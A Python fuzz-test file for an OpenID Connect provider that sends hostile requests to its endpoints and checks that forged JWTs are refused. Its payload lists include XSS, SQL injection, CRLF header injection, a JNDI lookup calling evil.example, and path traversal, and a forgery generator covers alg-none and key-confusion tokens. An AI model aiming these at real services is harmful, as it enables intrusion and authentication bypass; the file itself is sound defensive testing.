"""Every endpoint and page under hostile requests, through the WSGI application: more than five thousand of them, the same ones each time.

What must hold of any answer is in tests/support/wire.py. Requests are valid ones with one to three things made wrong, so that they come past the
first check; the forged tokens of test_no_forged_token_is_believed must besides be refused by everybody.
"""

import base64
import json
import string
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qsl, quote_from_bytes, unquote_to_bytes, urlsplit

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from joserfc import jws, jwt
from joserfc.jwk import ECKey, OctKey, RSAKey

from tests.conftest import MakeWorld
from tests.support.relying_party import ASSERTION_TYPE, basic
from tests.support.wire import MARKER, Wire
from tests.support.world import SignedIn, World

Pairs = list[tuple[str, bytes]]
FORM = b"application/x-www-form-urlencoded"


def profile(examples: int) -> settings:
    """The same requests every time; the first that fails is shown as it is, nothing is remembered between runs."""
    return settings(
        max_examples=examples,
        derandomize=True,
        database=None,
        report_multiple_bugs=False,
        deadline=None,
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
    )


@dataclass(frozen=True, slots=True)
class Target:
    """A world whose main application has somebody signed in, and the wire into it."""

    world: World
    wire: Wire
    signed_in: SignedIn

    @property
    def cookies(self) -> bytes:
        """The browser's cookies."""
        return "; ".join(f"{cookie.name}={cookie.value}" for cookie in self.signed_in.browser.jar.values()).encode()


@pytest.fixture
def target(make_world: MakeWorld) -> Iterator[Target]:
    """Where the requests go."""
    world = make_world()
    origins = (urlsplit(uri) for client in world.registered.values() for uri in client.settings.redirect_uris)
    sites = frozenset(f"{parts.scheme}://{parts.netloc}" for parts in origins)
    yield Target(world, Wire(world.wsgi, world.issuer, sites), world.sign_in("claire", "carnet", scope="openid profile offline_access"))


# What goes wrong

NASTY = [
    MARKER.encode(),
    b'"><script>x7q</script>' + MARKER.encode(),
    b"' OR 1=1 --",
    b'"',
    b"\\",
    b"\x00",
    b"a\x00b",
    b"\r\nSet-Cookie: x7q=1",
    b"\nLocation: https://evil.example/",
    b"\xff\xfe",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    "é\u202e\u0000\U0001f600".encode(),
    "\u2028".encode(),
    b"%",
    b"%0d%0a",
    b"%zz",
    b"{{7*7}}",
    b"${jndi:ldap://evil.example/}",
    b"https://evil.example/",
    b"//evil.example/",
    b"/\\evil.example/",
    b"javascript:alert(1)",
    b"../../../../etc/passwd",
    b"0",
    b"-1",
    b"1e999",
    b"9" * 400,
    "١٢".encode(),
    b"none",
    b"null",
    b"[]",
    b"{}",
    b" ",
    b"",
    b"A" * 5000,
    b"a=b&c=d",
]
DEEP = [
    b"[" * 900 + b"]" * 900,
    b'{"id_token":{"acr":{"values":' + b"[" * 300 + b"]" * 300 + b"}}}",
    b'{"userinfo":{"name":{"values":' + b"[" * 450 + b"]" * 450 + b"}}}",
    b'{"userinfo":{"name":{"value":' + b'{"a":' * 180 + b"1" + b"}" * 180 + b"}}}",
    b'{"id_token":{"sub":{"value":"\\ud800"}}}',
    b'{"id_token":{"sub":{"value":"\\u0000<x7q>"}}}',
    b'{"id_token":{"acr":{"essential":true,"value":"<x7q>"}}}',
    b'{"id_token":{"acr":{"essential":true,"values":["\\ud800",1,null,[]]}}}',
    b'{"userinfo":{"\\ud800":null,"name":{"value":1e999}}}',
    b'{"id_token":[],"userinfo":{"name":true}}',
    b'{"id_token":{"acr":{"values":5}}}',
    b'{"userinfo":{"a":{"value":' + b"9" * 3900 + b"}}}",
    b'{"userinfo":' * 50 + b"1" + b"}" * 50,
]


def values() -> st.SearchStrategy[bytes]:
    """A hostile value."""
    return st.one_of(st.sampled_from(NASTY), st.sampled_from(NASTY + DEEP), st.binary(max_size=40), st.text(max_size=20).map(_encoded))


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


@st.composite
def mutated(draw: st.DrawFn, valid: Mapping[str, bytes], others: tuple[str, ...] = ()) -> Pairs:
    """The valid parameters with one to three things wrong."""
    pairs: Pairs = list(valid.items())
    names = st.sampled_from([*valid, *others, "x7q", "", MARKER, "a\r\nb", "é", '"'])
    for _ in range(draw(st.sampled_from([1, 1, 1, 2, 3]))):
        act = draw(st.sampled_from(["replace", "replace", "replace", "add", "drop", "repeat", "join"]))
        if act == "add" or not pairs:
            pairs.append((draw(names), draw(values())))
            continue
        index = draw(st.integers(0, len(pairs) - 1))
        name, value = pairs[index]
        if act == "replace":
            pairs[index] = (name, draw(values()))
        elif act == "drop":
            del pairs[index]
        elif act == "repeat":
            pairs.append((name, draw(st.one_of(st.just(value), values()))))
        else:
            pairs[index] = (name, value + draw(values()))
    return pairs


@st.composite
def encoded(draw: st.DrawFn, pairs: st.SearchStrategy[Pairs]) -> bytes:
    """Pairs as form data: mostly well encoded, sometimes not at all, sometimes with rubbish between."""
    style = draw(st.sampled_from(["good", "good", "good", "raw", "rubbish"]))
    found = draw(pairs)
    if style == "raw":
        return b"&".join(_encoded(name) + b"=" + value for name, value in found)
    text = "&".join(f"{quote_from_bytes(_encoded(name))}={quote_from_bytes(value)}" for name, value in found).encode()
    if style == "rubbish":
        text += draw(st.sampled_from([b"&%", b"&%zz=%ff%fe", b"&&&;=;", b"&=", b"=&=", b"&a", b"&" * 300, b"&%00=%0d%0a"]))
    return text


METHODS = st.sampled_from(["GET"] * 6 + ["POST"] * 30 + ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "X7Q", "get", ""])
TYPES = st.sampled_from(
    [
        *[FORM] * 30,
        FORM + b"; charset=utf-7",
        b"application/json",
        b"multipart/form-data; boundary=x7q",
        b"multipart/form-data",
        b"text/plain",
        MARKER.encode(),
        b"\xff",
        b"",
    ]
)


@st.composite
def odd_headers(draw: st.DrawFn) -> Pairs:
    """Headers that nobody needs, some of them lies."""
    names = ["Accept-Language", "Accept", "Origin", "Referer", "User-Agent", "X-Forwarded-For", "Forwarded", "X-Forwarded-Host", "Host"]
    names += ["Content-Length", "Transfer-Encoding", "If-None-Match", "Range", "X-HTTP-Method-Override", "Sec-Fetch-Mode", "Sec-Fetch-Dest"]
    sent = draw(st.lists(st.tuples(st.sampled_from(names), values()), max_size=2))
    # A server in front of us would have refused these.
    return [(name, value.replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")) for name, value in sent]


@st.composite
def hostile_cookies(draw: st.DrawFn, good: bytes) -> bytes:
    """The browser's cookies, or a ruin of them."""
    style = draw(st.sampled_from(["good", "good", "none", "cut", "nasty", "many"]))
    if style == "cut":
        return good[: draw(st.integers(0, len(good)))]
    if style == "nasty":
        value = draw(values()).replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")
        return b"__Host-vestibule-session=" + value + b"; __Host-vestibule-browser=" + value
    return {"good": good, "none": b"", "many": b"; ".join(b"a%d=b" % number for number in range(200))}[style]


AUTHORIZE_OTHERS = (
    "claims request request_uri registration prompt max_age ui_locales claims_locales login_hint id_token_hint display response_mode resource "
    "establishment acr_values state nonce"
).split()


def test_authorize_survives(target: Target) -> None:
    url = target.signed_in.party.begin(scope="openid profile", response_mode="query", claims='{"userinfo":{"name":null}}')
    valid = dict(pair.split("=", 1) for pair in urlsplit(url).query.split("&"))
    plain = {name: unquote_to_bytes(value) for name, value in valid.items()}

    @profile(1200)
    @given(encoded(mutated(plain, tuple(AUTHORIZE_OTHERS))), hostile_cookies(target.cookies), odd_headers(), st.booleans())
    def probe(sent: bytes, cookies: bytes, headers: Pairs, is_post: bool) -> None:
        # A new minute each time: the guard against loops is not what is looked at.
        target.world.clock.advance(timedelta(seconds=0.5))
        headers = [*headers, ("Cookie", cookies)]
        request = {"sent": sent, "cookies": cookies, "headers": headers}
        if is_post:
            answer = target.wire.send("POST", "/authorize", body=sent, headers=[*headers, ("Content-Type", FORM)])
            target.wire.check(answer, request)
            location = answer.header("Location")
            if not location.startswith("/authorize?"):
                return
            sent = location.partition("?")[2].encode()
        answer = target.wire.send("GET", "/authorize", query=sent, headers=headers)
        target.wire.check(answer, request)

    probe()
    assert target.wire.sent >= 1200


def test_authorize_survives_hostile_claims(target: Target) -> None:
    browser, party = target.signed_in.browser, target.signed_in.party
    for claims in DEEP:
        for prompt in ("none", "login"):
            target.world.clock.advance(timedelta(seconds=10))
            url = party.begin(scope="openid profile", claims=claims.decode(), prompt=prompt)
            answer = target.wire.send("GET", "/authorize", query=urlsplit(url).query.encode(), headers=[("Cookie", target.cookies)])
            target.wire.check(answer, {"claims": claims})
            if answer.header("Location").startswith("/signin/"):
                assert browser.get(answer.header("Location")).status == 200
            elif "code=" in answer.header("Location"):
                assert party.redeem(dict(parse_qsl(urlsplit(answer.header("Location")).query))["code"]).status_code == 200


@st.composite
def authorizations(draw: st.DrawFn, good: tuple[bytes, ...]) -> bytes:
    """Authorization headers: good ones, ruined ones, rubbish."""
    value = draw(values()).replace(b"\r", b"").replace(b"\n", b"")
    return draw(
        st.sampled_from(
            [
                *good,
                b"",
                b"Basic",
                b"Basic " + value,
                b"Basic " + base64.b64encode(value),
                b"Basic " + base64.b64encode(value + b":" + value),
                b"Bearer " + value,
                b"Bearer",
                b"Bearer a.b.c",
                b"DPoP x",
                value,
            ]
        )
    )


MACHINE = ("/token", "/introspect", "/revoke", "/userinfo", "/jwks", "/.well-known/openid-configuration")


def test_machine_endpoints_survive(target: Target) -> None:
    party = target.signed_in.party
    registered = party.registered
    tokens = target.signed_in.tokens
    valid: dict[str, bytes] = {
        "grant_type": b"authorization_code",
        "code": b"A" * 43,
        "redirect_uri": registered.redirect_uri.encode(),
        "code_verifier": b"v" * 64,
        "token": tokens.access.encode(),
        "token_type_hint": b"access_token",
        "access_token": tokens.access.encode(),
        "scope": b"openid",
    }
    others = ("refresh_token", "client_id", "client_secret", "client_assertion", "client_assertion_type", "resource", "audience", "claims")
    good = (basic(party.client_id, registered.secret or "").encode(),) * 3 + (f"Bearer {tokens.access}".encode(),)
    grants = st.sampled_from([b"authorization_code", b"refresh_token", b"client_credentials", b"password", b"implicit", b'"'])

    @profile(1300)
    @given(
        st.sampled_from(MACHINE[:4] * 3 + MACHINE),
        METHODS,
        mutated(valid, others),
        grants,
        TYPES,
        authorizations(good),
        odd_headers(),
        st.data(),
    )
    def probe(
        path: str, method: str, pairs: Pairs, grant: bytes, content_type: bytes, authorization: bytes, odd: Pairs, data: st.DataObject
    ) -> None:
        pairs = [(name, grant if name == "grant_type" and value == b"authorization_code" else value) for name, value in pairs]
        body = data.draw(encoded(st.just(pairs)))
        headers: Pairs = [*odd, ("Authorization", authorization), ("Content-Type", content_type)]
        in_query = data.draw(st.booleans()) and data.draw(st.booleans())
        answer = target.wire.send(method, path, query=body if in_query else b"", body=b"" if in_query else body, headers=headers)
        request = {"path": path, "method": method, "body": body, "headers": headers}
        target.wire.check_json(answer, request)

    probe()
    assert target.wire.sent >= 1300


PAGES = (
    "/ /signin/{} /signin/{}/login /signin/{}/consent /signin/{}/establishment /signin/{}/close-session /signin/{}/password /signin/{}/cancel "
    "/signin/{}/go-on /signin/{}/other /signin/{}/back /signin/{}/{} /account /account/password /account/establishment /account/cancel "
    "/account/sessions/end /account/sessions/end-others /help /help/{} /logo/{} /static/{} /static/ /logout /logout/confirm /healthz /readyz "
    "/robots.txt /favicon.ico /{} //{} /authorize/{} /token/{} /.well-known/{}"
).split()


def test_pages_survive(target: Target) -> None:
    browser = target.signed_in.browser
    waiting = urlsplit(browser.get(target.signed_in.party.begin(prompt="login")).url).path.rpartition("/")[2]
    fields = {"csrf_token": b"x", "identifier": b"claire", "password": b"x", "answer": b"yes", "establishment": b"tilleuls"}
    others = (
        "session_id",
        "new_password",
        "confirm_password",
        "current_password",
        "id_token_hint",
        "post_logout_redirect_uri",
        "state",
        "lang",
    )
    segments = st.one_of(
        st.just(waiting),
        st.sampled_from(["a", "..", "%2e%2e", MARKER, "'", "\x00", "é", "A" * 3000, "\udcff", "login"]),
        st.text(max_size=8),
    )

    @profile(1500)
    @given(
        st.sampled_from(PAGES),
        segments,
        METHODS,
        encoded(mutated(fields, others)),
        TYPES,
        hostile_cookies(target.cookies),
        odd_headers(),
        st.booleans(),
    )
    def probe(route: str, segment: str, method: str, sent: bytes, content_type: bytes, cookies: bytes, odd: Pairs, in_query: bool) -> None:
        path = route.replace("{}", segment)
        headers: Pairs = [*odd, ("Cookie", cookies), ("Content-Type", content_type)]
        answer = target.wire.send(method, path, query=sent if in_query else b"", body=b"" if in_query else sent, headers=headers)
        target.wire.check(answer, {"path": path, "method": method, "sent": sent, "headers": headers})

    probe()
    assert target.wire.sent >= 1500


@pytest.mark.parametrize(("act", "examples"), [("login", 60), ("cancel", 10), ("other", 50)])
def test_sign_in_forms_with_a_good_token_survive(target: Target, act: str, examples: int) -> None:
    # `other` is not what this step asks; `login` computes a password hash each time, hence few.
    browser = target.world.browser()
    party = target.world.relying_party("carnet")

    @profile(examples)
    @given(mutated({"identifier": b"claire.dubois", "password": b"x"}, ("csrf_token",)), st.data())
    def probe(pairs: Pairs, data: st.DataObject) -> None:
        target.world.clock.advance(timedelta(seconds=20))
        form = browser.get(party.begin(login_hint="claire")).forms["signin-form"]
        body = data.draw(
            encoded(st.just([*((name, value.encode()) for name, value in form.fields.items() if name == "csrf_token"), *pairs]))
        )
        cookies = "; ".join(f"{cookie.name}={cookie.value}" for cookie in browser.jar.values()).encode()
        path = urlsplit(form.action).path.rpartition("/")[0] + f"/{act}"
        answer = target.wire.send(
            "POST", path, body=body, headers=[("Content-Type", FORM), ("Cookie", cookies), ("Origin", target.world.issuer.encode())]
        )
        target.wire.check(answer, {"path": path, "body": body})

    probe()
    assert target.wire.sent >= examples


def test_logout_survives(target: Target) -> None:
    valid = {
        "id_token_hint": target.signed_in.tokens.identity.encode(),
        "client_id": b"carnet",
        "post_logout_redirect_uri": b"https://carnet.example/au-revoir",
        "state": b"s",
        "ui_locales": b"fr",
    }

    @profile(600)
    @given(
        encoded(mutated(valid, ("logout_hint", "csrf_token"))),
        st.sampled_from(["GET", "POST"]),
        st.sampled_from(["/logout", "/logout/confirm"]),
    )
    def probe(sent: bytes, method: str, path: str) -> None:
        # Without the Session's cookie, which the first good request would end.
        headers = [("Content-Type", FORM)]
        query, body = (sent, b"") if method == "GET" else (b"", sent)
        answer = target.wire.send(method, path, query=query, body=body, headers=headers)
        target.wire.check(answer, {"sent": sent, "path": path})

    probe()
    assert target.wire.sent >= 600


# Forged tokens

ALGORITHMS = ["none", "None", "nOnE", "", "HS256", "HS512", "RS256", "ES256", "PS256", "EdDSA", "RS1", "A128KW", MARKER, None, 1, [], {}]
KIDS: list[Any] = ["../../../../dev/null", "' OR 1=1 --", MARKER, "", "\x00", "\ud800", "é", "k" * 4000, None, 7, [], {"a": 1}]


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _claims(token: str) -> dict[str, Any]:
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    return claims


@st.composite
def forged(draw: st.DrawFn, good: tuple[str, ...], kids: tuple[str, ...], secrets: tuple[bytes, ...]) -> str:
    """A JWT that nobody of us signed: a header of the attacker's choice over claims of a real token, with a signature that fits if it can."""
    header_text, payload_text, signature = draw(st.sampled_from(good)).split(".")
    header: dict[str, Any] = json.loads(base64.urlsafe_b64decode(header_text + "=="))
    for _ in range(draw(st.integers(1, 3))):
        name = draw(
            st.sampled_from(["alg", "alg", "kid", "kid", "typ", "crit", "jwk", "jku", "x5u", "x5c", "b64", "zip", "enc", "cty", "p2c"])
        )
        value: Any = draw(
            st.sampled_from(
                {"alg": ALGORITHMS, "kid": [*KIDS, *kids]}.get(
                    name, [None, True, 1, [], ["exp"], {}, "JWT", "at+jwt", "https://evil.example/"]
                )
            )
        )
        if value is None:
            header.pop(name, None)
        else:
            header[name] = value
    kind = draw(
        st.sampled_from(["keep", "empty", "attacker", "secret", "rubbish", "cut", "deep header", "deep payload", "payload", "dots", "json"])
    )
    payload = base64.urlsafe_b64decode(payload_text + "==")
    if kind == "payload":
        payload = draw(st.sampled_from([b"", b"null", b"[]", b'"x"', b"{", b"1", b"\xff", payload.replace(b"carnet", b"autres")]))
    if kind == "deep payload":
        payload = b'{"sub":' + b"[" * 6000 + b"]" * 6000 + b"}"
    signed = f"{_b64(_json(header))}.{_b64(payload)}"
    if kind == "deep header":
        signed = f"{_b64(b'[' * 6000)}.{_b64(payload)}"
    if kind == "keep":
        return f"{signed}.{signature}" if signed != f"{header_text}.{payload_text}" else f"{signed}.{signature[::-1]}"
    if kind == "attacker":
        return _signed_by_attacker(header, payload)
    if kind == "secret":
        return _signed_by_secret(header, payload, draw(st.sampled_from(secrets)))
    tail = {"cut": signature[: len(signature) // 2], "rubbish": "x7q", "dots": "....", "json": '{"a":1}'}.get(kind, "")
    return f"{signed}.{tail}"


EC, RSA = ECKey.generate_key("P-256"), RSAKey.generate_key(2048)


def _signed_by_attacker(header: dict[str, Any], payload: bytes) -> str:
    key: ECKey | RSAKey = RSA if header.get("alg") == "RS256" else EC
    kept = {name: value for name, value in header.items() if name in {"kid", "typ"} and isinstance(value, str)}
    kept |= {"alg": "RS256" if key is RSA else "ES256", "jwk": key.as_dict(private=False)}
    try:
        return jwt.encode(kept, json.loads(payload), key, algorithms=["RS256", "ES256"])
    except (ValueError, TypeError):
        return f"{_b64(_json(kept))}.{_b64(payload)}.x"


def _signed_by_secret(header: dict[str, Any], payload: bytes, secret: bytes) -> str:
    kept = {name: value for name, value in header.items() if name in {"kid", "typ"} and isinstance(value, str)}
    try:
        return jwt.encode({**kept, "alg": "HS256"}, json.loads(payload), OctKey.import_key(secret), algorithms=["HS256"])
    except (ValueError, TypeError):
        return f"{_b64(_json(kept))}.{_b64(payload)}.x"


def test_no_forged_token_is_believed(target: Target) -> None:
    party, tokens = target.signed_in.party, target.signed_in.tokens
    signer = target.world.relying_party("signataire")
    published = target.world.machine.get("/jwks")
    keys = published.json()["keys"]
    # The classic confusion: the published key, in every form it comes in, as the secret of an HMAC.
    secrets = (published.content, *(_json(key) for key in keys), *(_pem(key) for key in keys), b"secret-of-nobody")
    good = (tokens.access, tokens.identity, signer.assertion())
    authorization = basic(party.client_id, party.registered.secret or "").encode()

    @profile(450)
    @given(forged(good, tuple(key["kid"] for key in keys), secrets))
    def probe(token: str) -> None:
        wire = target.wire
        raw = quote_from_bytes(token.encode("utf-8", "surrogatepass"), safe="").encode()
        answer = wire.send("GET", "/userinfo", headers=[("Authorization", b"Bearer " + token.encode("utf-8", "surrogatepass"))])
        wire.check_json(answer, {"token": token})
        assert answer.status in {400, 401}
        answer = wire.send("POST", "/introspect", body=b"token=" + raw, headers=[("Content-Type", FORM), ("Authorization", authorization)])
        wire.check_json(answer, {"token": token})
        assert json.loads(answer.body).get("active") is not True
        fields = b"grant_type=client_credentials&client_assertion_type=%s&client_assertion=%s" % (ASSERTION_TYPE.encode(), raw)
        answer = wire.send("POST", "/token", body=fields, headers=[("Content-Type", FORM)])
        wire.check_json(answer, {"token": token})
        assert answer.status in {400, 401}
        for query in (b"id_token_hint=%s&client_id=carnet&post_logout_redirect_uri=https://carnet.example/au-revoir" % raw,):
            answer = wire.send("GET", "/logout", query=query)
            wire.check(answer, {"token": token})
            assert answer.status == 400
        answer = wire.send("GET", "/authorize", query=urlsplit(party.begin(prompt="none")).query.encode() + b"&id_token_hint=" + raw)
        wire.check(answer, {"token": token})
        assert "error=invalid_request" in answer.header("Location") or answer.status == 400

    probe()
    assert target.wire.sent >= 2000


def _pem(key: dict[str, str]) -> bytes:
    imported = RSAKey.import_key(key) if key["kty"] == "RSA" else ECKey.import_key(key)  # type: ignore[arg-type]  # a JWK as it was published
    return imported.as_pem(private=False)


def test_authorize_survives_any_character_in_any_parameter(target: Target) -> None:
    for parameter in ("response_type", "scope", "prompt", "state", "nonce", "response_mode", "client_id", "redirect_uri"):
        for character in sorted({*string.punctuation, "\t", "\x7f", "\x00", "é", "\u2028"}):
            url = target.signed_in.party.begin(**{parameter: f"code{character}{character}"})
            answer = target.wire.send("GET", "/authorize", query=urlsplit(url).query.encode())
            target.wire.check(answer, {"url": url})


@pytest.mark.parametrize(
    "authorization",
    [b"Basic \xe9\xe9", b"Basic ====", b"Basic " + base64.b64encode(b"\xff:\xff"), b"Basic " + base64.b64encode(b"%00%ff:x")],
)
def test_token_endpoint_survives_credentials_that_are_no_text(target: Target, authorization: bytes) -> None:
    answer = target.wire.send(
        "POST", "/token", body=b"grant_type=client_credentials", headers=[("Content-Type", FORM), ("Authorization", authorization)]
    )
    target.wire.check_json(answer, {"authorization": authorization})
    assert (answer.status, json.loads(answer.body)["error"]) == (401, "invalid_client")


@pytest.mark.parametrize(
    "claims", [{"sub": "\ud800"}, {"sub": "\x00"}, {"sub": ["signataire"]}, {"jti": "\ud800"}, {"jti": ["a"]}, {"exp": 1e300}, {"exp": "x"}]
)
def test_token_endpoint_survives_assertions_that_are_no_sense(target: Target, claims: dict[str, Any]) -> None:
    # Signed with the client's real key: only what is in it is wrong.
    party = target.world.relying_party("signataire")
    key = party.registered.key
    assert key is not None
    payload = {**_claims(party.assertion()), **claims}
    assertion = jws.serialize_compact({"alg": "ES256", "kid": key.kid}, _json(payload), key, algorithms=["ES256"])
    body = f"grant_type=client_credentials&client_assertion_type={ASSERTION_TYPE}&client_assertion={assertion}".encode()
    answer = target.wire.send("POST", "/token", body=body, headers=[("Content-Type", FORM)])
    target.wire.check_json(answer, {"claims": claims})
    assert (answer.status, json.loads(answer.body)["error"]) == (401, "invalid_client")
